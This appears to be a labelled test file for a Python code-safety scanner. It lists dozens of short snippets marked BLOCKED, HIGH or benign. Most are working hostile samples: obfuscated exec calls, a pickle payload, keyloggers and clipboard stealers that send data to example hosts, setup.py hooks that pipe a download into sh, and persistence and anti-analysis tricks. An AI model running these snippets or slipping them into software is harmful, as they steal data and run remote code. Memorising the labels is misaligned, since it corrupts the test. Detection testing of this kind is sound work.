#@ chr_map_module_popen BLOCKED t
import importlib
mod = importlib.import_module("".join(map(chr, [111, 115])))
fn = getattr(mod, "po" + "pen")
print(fn("id").read())
#@ builtins_dict_exec BLOCKED t
import base64
name = "ex" + "ec"
__builtins__.__dict__[name](base64.b64decode("cHJpbnQoMSk="))
#@ reversed_eval_lookup BLOCKED v
import builtins
b = vars(builtins)
b["".join(reversed("lave"))]("__import__('os').system('id')")
#@ attrgetter_system BLOCKED t
import operator
operator.attrgetter("sys" + "tem")(__import__("os"))("uname -a")
#@ pickle_blob BLOCKED t
import pickle, base64
blob = "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="
pickle.loads(base64.b64decode(blob))
#@ zlib_b85_exec BLOCKED v
import zlib, base64
exec(zlib.decompress(base64.b85decode(b"c${NkTP8#pG|nQq=P)MxGc!3;")))
#@ pbpaste_sent BLOCKED t
import subprocess, urllib.request
clip = subprocess.check_output(["pbpaste"])
urllib.request.urlopen("https://x.example.com/c", data=clip)
#@ win32clipboard_loop HIGH t
import time, win32clipboard
while True:
    win32clipboard.OpenClipboard()
    data = win32clipboard.GetClipboardData()
    win32clipboard.CloseClipboard()
    with open("C:/Users/Public/.c.txt", "a") as f:
        f.write(data + "\n")
    time.sleep(3)
#@ pyautogui_screens_hidden HIGH v
import os, time, pyautogui
d = os.path.expanduser("~/.cache/.thumbs")
os.makedirs(d, exist_ok=True)
for i in range(1000):
    pyautogui.screenshot(os.path.join(d, f"{i}.png"))
    time.sleep(45)
#@ keyboard_hook_mailed BLOCKED t
import keyboard, smtplib
keys = []
keyboard.on_press(lambda e: keys.append(e.name))
keyboard.wait("esc")
with smtplib.SMTP("mail.example.org") as s:
    s.sendmail("a@example.org", "b@example.org", "".join(keys))
#@ pynput_class_logger BLOCKED t
from pynput.keyboard import Listener

class Recorder:
    def __init__(self, path):
        self.path = path

    def on_release(self, key):
        with open(self.path, "a") as f:
            f.write(f"{key}\n")

    def run(self):
        with Listener(on_release=self.on_release) as l:
            l.join()

Recorder("/tmp/.r").run()
#@ transfer_sh_exec BLOCKED v
import requests
exec(requests.get("https://transfer.sh/abc/p.py").text)
#@ request_catcher_post HIGH t
import requests
requests.post("https://webhook.site/2f6b1a3c-0000-4c7e-9a1d-1234567890ab", data={"x": 1})
#@ decimal_ip_urlopen HIGH t
import urllib.request
urllib.request.urlopen("http://3405803777/ping")
#@ setup_install_hook_curl BLOCKED t
import os
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("curl -s https://198.51.100.3/i | sh")

setup(name="fastjsonx", version="0.1", cmdclass={"install": PostInstall})
#@ setup_develop_hook_network BLOCKED v
import urllib.request, socket
from setuptools import setup
from setuptools.command.develop import develop

class D(develop):
    def run(self):
        urllib.request.urlopen("https://x.example.com/i?h=" + socket.gethostname())
        develop.run(self)

setup(name="reqeusts", cmdclass={"develop": D})
#@ ctypes_tmp_hidden_lib HIGH t
import ctypes
lib = ctypes.CDLL("/tmp/.lib/libx.so")
lib.start()
#@ download_then_load_library BLOCKED t
import ctypes, urllib.request
urllib.request.urlretrieve("https://x.example.com/m.so", "/tmp/m.so")
ctypes.cdll.LoadLibrary("/tmp/m.so")
#@ sys_path_dev_shm HIGH v
import sys
sys.path.insert(0, "/dev/shm/.p")
import helper
helper.run()
#@ detached_tmp_popen HIGH t
import subprocess
subprocess.Popen(["/tmp/.u/upd"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                 stdin=subprocess.DEVNULL, start_new_session=True)
#@ winreg_run_key BLOCKED t
import sys, winreg
key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, "Updater", 0, winreg.REG_SZ, sys.executable + " -m upd")
#@ launch_agent_plist BLOCKED v
from pathlib import Path
plist = Path.home() / "Library/LaunchAgents/com.apple.upd.plist"
plist.write_text("<plist><dict><key>Label</key><string>upd</string><key>ProgramArguments</key><array><string>/Users/Shared/upd</string></array><key>RunAtLoad</key><true/></dict></plist>")
#@ tracer_vm_check_then_exec BLOCKED t
import sys, requests
if sys.gettrace() or "VirtualBox" in open("/sys/class/dmi/id/product_name").read():
    sys.exit(0)
exec(requests.get("https://x.example.com/stage2").text)
#@ long_sleep_then_run_download BLOCKED t
import time, os, urllib.request
time.sleep(900)
urllib.request.urlretrieve("https://x.example.com/b", "/tmp/b")
os.chmod("/tmp/b", 0o755)
os.system("/tmp/b")
#@ analysis_tools_check_then_run BLOCKED v
import os, psutil
watch = {"wireshark", "procmon", "x64dbg", "tcpdump"}
if any(p.name().lower() in watch for p in psutil.process_iter()):
    raise SystemExit
os.system("curl -s http://198.51.100.3/p | sh")
#@ bashrc_append_python BLOCKED t
import os
with open(os.path.expanduser("~/.bashrc"), "a") as rc:
    rc.write("\n(nohup ~/.local/bin/.sync >/dev/null 2>&1 &)\n")
#@ copy_to_clipboard benign t
import pyperclip
result = "42"
pyperclip.copy(result)
#@ dispatch_own_methods benign t
class Tool:
    def build(self):
        print("build")

    def test(self):
        print("test")

import sys
getattr(Tool(), sys.argv[1] if len(sys.argv) > 1 else "build")()
#@ single_screenshot_workdir benign v
from PIL import ImageGrab
ImageGrab.grab().save("screenshot.png")
#@ plain_setup_py benign t
from setuptools import setup, find_packages
setup(name="mytool", version="1.0", packages=find_packages(), install_requires=["requests"])
#@ ctypes_libc benign t
import ctypes, ctypes.util
libc = ctypes.CDLL(ctypes.util.find_library("c"))
print(libc.getpid())
#@ worker_with_log benign v
import subprocess
subprocess.Popen(["python3", "worker.py"], stdout=open("worker.log", "w"), stderr=subprocess.STDOUT)
#@ plugins_from_literal_list benign t
import importlib
for name in ["csv_out", "json_out"]:
    importlib.import_module(f"plugins.{name}").register()
#@ slack_notice benign t
import os, requests
requests.post(os.environ["SLACK_WEBHOOK"], json={"text": "nightly done"})
#@ retry_sleep_then_get benign v
import time, requests
for attempt in range(5):
    try:
        r = requests.get("https://api.example.com/status", timeout=5)
        break
    except requests.RequestException:
        time.sleep(2 ** attempt)
